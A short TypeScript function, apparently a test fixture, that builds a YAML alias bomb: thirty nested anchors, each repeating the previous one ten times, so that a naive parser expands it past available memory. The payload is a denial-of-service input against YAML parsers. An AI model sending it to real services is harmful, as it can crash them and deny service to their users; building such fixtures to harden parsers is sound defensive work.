/** YAML aliases of aliases: thirty lines that expand to more text than fits in memory. */
export function yamlBomb(): string {
  return Array.from({ length: 30 }, (_, i) => {
    const items = i === 0 ? ['"x"'] : Array(10).fill(`*a${i - 1}`);
    return `a${i}: &a${i} [${items.join(',')}]`;
  }).join('\n');
}
